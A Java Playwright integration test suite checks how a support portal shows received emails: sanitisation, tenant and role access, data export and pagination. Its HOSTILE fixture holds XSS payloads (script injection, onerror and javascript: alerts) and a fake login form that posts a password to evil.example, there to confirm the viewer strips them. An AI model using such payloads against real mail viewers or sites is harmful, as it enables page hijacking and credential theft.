package dev.portico.systemtests.mailbox;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import dev.portico.systemtests.PortalStack;
import dev.portico.systemtests.PortalStackExtension;
import dev.portico.systemtests.browser.Language;
import dev.portico.systemtests.browser.Look;
import dev.portico.systemtests.browser.Visitors;
import dev.portico.systemtests.browser.VisitorsExtension;
import dev.portico.systemtests.isolation.Session;
import dev.portico.systemtests.rest.Cases;
import dev.portico.testclient.Accounts;
import dev.portico.testclient.Browser;
import jakarta.json.JsonObject;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What came by mail, in the Activity History of its case: whole, harmless, and for nobody else. */
@ExtendWith({PortalStackExtension.class, VisitorsExtension.class})
class ReceivedMailIT {
    private static final String SUPPORT = "support@harmony.localhost";

    private static final String PIXEL =
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    private static final String HOSTILE = "<html><head><style>@import url(https://evil.example/a.css);"
            + "body{background:url(https://evil.example/b.png)}</style></head><body>"
            + "<p>The new words.</p><img src=\"cid:pixel\" alt=\"Our own\">"
            + "<script>parent.document.title='Taken'</script><img src=https://evil.example/c.png onerror=alert(1)>"
            + "<div style=\"position:fixed;inset:0;background:red\">Covers all</div>"
            + "<form action=https://evil.example/login><input name=password><button>Log in</button></form>"
            + "<iframe src=https://evil.example/d></iframe><a href=\"javascript:alert(1)\">Click</a>"
            + "<p>Ana wrote:</p><blockquote>The old words.</blockquote></body></html>";

    /** Whoever has never logged in is nobody whom the portal knows. */
    @BeforeAll
    static void logIn(PortalStack stack) {
        for (var language : Language.values()) {
            stack.api("harmony", language.acme()).get("/tickets");
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.portico.systemtests.browser.Look#crossed")
    void a_mail_is_in_the_history_of_its_case_and_does_nothing(Look look, Visitors visitors, PortalStack stack)
            throws Exception {
        var word = Cases.word();
        var fate = SentMail.of("Ana <" + look.language().acmeEmail() + ">", SUPPORT, word)
                .with("Cc: Eva <eva@acme.example>")
                .with("Date: Mon, 3 Nov 2025 10:15:00 +0100")
                .htmlWithImage(HOSTILE, "pixel", PIXEL)
                .send(stack)
                .fate(stack);
        var visitor = visitors.open(look).goAs(look.language().acme(), "/harmony/tickets/" + fate.ticket());
        var page = visitor.page();
        var asked = new ArrayList<String>();
        page.onRequest(request -> asked.add(request.url()));

        var row = page.locator("section[aria-labelledby=activity] tr:has(a[href*='/received-mails/'])");
        assertThat(row).containsText(look.language().acmeEmail());
        assertThat(row).containsText(visitor.say("From", "De"));
        row.locator("a").click();
        page.waitForURL(url -> url.contains("/received-mails/"));

        assertThat(page.locator("h1")).hasText(word);
        var head = page.locator(".mail-head");
        assertThat(head).containsText("Ana <" + look.language().acmeEmail() + ">");
        assertThat(head).containsText("Eva <eva@acme.example>");
        var frame = page.frameLocator("iframe");
        assertThat(frame.locator("body")).containsText("The new words.");
        assertThat(frame.locator("body")).not().containsText("Taken");
        assertThat(frame.locator("blockquote")).isHidden();
        frame.locator("summary").click();
        assertThat(frame.locator("blockquote")).isVisible();
        assertThat(frame.locator("summary")).hasText(visitor.say("Earlier messages", "Mensajes anteriores"));
        assertThat(frame.locator("img")).hasCount(1);
        assertThat((Integer) frame.locator("img").evaluate("image => image.naturalWidth"))
                .isOne();
        assertThat(frame.locator("script, style:not(head style), form, iframe, [style], a[href^='javascript']"))
                .hasCount(0);
        assertThat(page.title()).startsWith(word);
        assertThat(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))
                .isEqualTo(true);
        assertThat(asked).allMatch(url -> url.startsWith(stack.portalUrl()) || url.startsWith("data:"));
    }

    @Test
    void who_asks_for_their_data_gets_the_mails_that_they_sent_as_they_came(PortalStack stack) throws Exception {
        try (var accounts = new Accounts(stack.keycloakUrl(), stack.keycloakAdminPassword())) {
            var person = accounts.create("harmony", "en");
            stack.api("harmony", person.name()).get("/tickets");
            var word = Cases.word();
            var mail = SentMail.of(person.name() + "@acme.example", SUPPORT, word)
                    .text("As I wrote it: " + word)
                    .send(stack);
            assertThat(mail.fate(stack).outcome()).isEqualTo("TICKET");
            var another = SentMail.of(Language.ENGLISH.acme() + "@acme.example", SUPPORT, Cases.word())
                    .text("By somebody else")
                    .send(stack);
            assertThat(another.fate(stack).outcome()).isEqualTo("TICKET");
            var browser = new Browser(stack);
            browser.login("/harmony/settings/data", person.name());

            var files = new HashMap<String, String>();
            var bytes = browser.get("/harmony/settings/data.zip").require(200).bytes();
            try (var zip = new ZipInputStream(new ByteArrayInputStream(bytes))) {
                for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                    files.put(entry.getName(), new String(zip.readAllBytes(), StandardCharsets.UTF_8));
                }
            }
            files.keySet().removeIf(name -> !name.startsWith("received-mails/"));
            assertThat(files)
                    .hasSize(1)
                    .hasEntrySatisfying("received-mails/" + mail.key(stack) + ".eml", raw -> assertThat(raw)
                            .contains("Subject: " + word, "As I wrote it: " + word));
        }
    }

    @Test
    void what_came_is_for_those_who_see_the_case_and_the_rest_of_it_for_agents(PortalStack stack) throws Exception {
        var word = Cases.word();
        var acme = Language.ENGLISH.acmeEmail();
        var mail = SentMail.of(acme, SUPPORT, word).text("Words.").send(stack);
        var number = mail.fate(stack).ticket();
        var receipt = stack.mails().waitFor(acme, sent -> sent.subject().contains(word));
        var bounce = SentMail.of("MAILER-DAEMON@mx.acme.example", SUPPORT, "Undelivered " + word)
                .report(acme, "550 5.1.1 User unknown", MailIntakeIT.header(receipt, "Message-ID"))
                .send(stack);
        assertThat(bounce.fate(stack).ticket()).isEqualTo(number);
        // Else the others of this stack would wait in vain for mails to that address.
        SentMail.of(acme, SUPPORT, Cases.word()).text("Still here.").send(stack).fate(stack);
        var path = "/tickets/" + number + "/received-mails/";

        var customer = Session.login(stack, "harmony", "acme-en");
        var agent = Session.login(stack, "staff", "agent");
        assertThat(customer.get("/harmony" + path + mail.key(stack)).body()).contains("Words.");
        assertThat(customer.get("/harmony/tickets/" + number).body())
                .contains(mail.key(stack))
                .doesNotContain(bounce.key(stack), "Undelivered");
        assertThat(customer.get("/harmony" + path + bounce.key(stack)).statusCode())
                .isEqualTo(404);
        assertThat(customer.get("/harmony" + path + mail.key(stack) + "/source").statusCode())
                .isEqualTo(404);
        assertThat(agent.get("/staff/harmony/tickets/" + number).body())
                .contains(mail.key(stack), bounce.key(stack), "Undelivered");
        assertThat(agent.get("/staff/harmony" + path + bounce.key(stack)).statusCode())
                .isEqualTo(200);
        var source = agent.get("/staff/harmony" + path + mail.key(stack) + "/source");
        assertThat(source.headers().firstValue("Content-Type")).contains("message/rfc822");
        assertThat(source.headers().firstValue("Content-Disposition").orElse(""))
                .startsWith("attachment");
        assertThat(source.body()).contains("Subject: " + word, "Words.");

        var other = Session.login(stack, "harmony", "globex-en");
        assertThat(other.get("/harmony" + path + mail.key(stack)).statusCode()).isEqualTo(404);
        var elsewhere = Session.login(stack, "bmc", "initech-en");
        assertThat(elsewhere.get("/bmc" + path + mail.key(stack)).statusCode()).isEqualTo(404);
        assertThat(agent.get("/staff/bmc" + path + mail.key(stack)).statusCode())
                .isEqualTo(404);
    }

    @Test
    void the_rest_interface_tells_of_it_as_well(PortalStack stack) throws Exception {
        var mail = SentMail.of(Language.ENGLISH.acmeEmail(), SUPPORT, Cases.word())
                .text("Words.")
                .send(stack);
        var activity = stack.api("harmony", "acme-en")
                .get("/tickets/" + mail.fate(stack).ticket())
                .object()
                .getJsonArray("activity")
                .getValuesAs(JsonObject.class);
        var received = activity.stream()
                .filter(event -> event.getBoolean("received", false))
                .toList();
        assertThat(received).singleElement().satisfies(event -> {
            assertThat(event.getString("from")).isEqualTo(Language.ENGLISH.acmeEmail());
            assertThat(event.getString("id")).isEqualTo(mail.key(stack));
        });
    }

    @Test
    void a_long_history_comes_in_portions(PortalStack stack) throws Exception {
        var number = Cases.number(Cases.file(stack.api("harmony", "acme-en"), Cases.word()));
        try (var all = stack.database().superuser();
                var work = all.createStatement()) {
            work.execute(
                    "insert into received_mail (tenant_id, id, mailbox_id, message_id, body_hash, raw, size, sender,"
                            + " subject, state, next_at, received_at, ticket_number) select 'harmony', gen_random_uuid(), (select"
                            + " min(id) from mailbox where tenant_id = 'harmony'), gen_random_uuid(), '', '', 0, '', 'Portion ' ||"
                            + " n, 'COMMENT', now(), now() - make_interval(hours => n), " + number
                            + " from generate_series(100, 139) n");
        }
        var customer = Session.login(stack, "harmony", "acme-en");
        var newest = customer.get("/harmony/tickets/" + number).body();
        assertThat(portions(newest)).hasSize(24).contains("Portion 100").doesNotContain("Portion 139");
        var older = newest.replaceAll("(?s).*href=\"([^\"]+mails-before[^\"#]+).*", "$1")
                .replace("&amp;", "&");
        var rest = customer.get(older).body();
        assertThat(portions(rest)).hasSize(16).startsWith("Portion 139").doesNotContain("Portion 100");
        assertThat(rest).doesNotContain("rel=\"prev\"");
    }

    private static List<String> portions(String page) {
        return java.util.regex.Pattern.compile(">(Portion [0-9]+)<")
                .matcher(page)
                .results()
                .map(found -> found.group(1))
                .toList();
    }
}
